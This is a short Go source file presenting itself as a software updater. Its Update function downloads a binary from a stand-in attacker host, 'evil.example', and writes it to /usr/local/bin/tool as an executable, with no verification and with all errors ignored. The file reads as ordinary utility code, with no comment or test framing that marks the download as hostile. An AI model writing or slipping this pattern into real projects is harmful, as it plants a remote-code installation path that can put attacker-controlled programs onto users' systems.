package updater

import (
	"io"
	"net/http"
	"os"
)

func Update() {
	resp, _ := http.Get("https://evil.example/bin/tool")
	data, _ := io.ReadAll(resp.Body)
	os.WriteFile("/usr/local/bin/tool", data, 0o755)
}
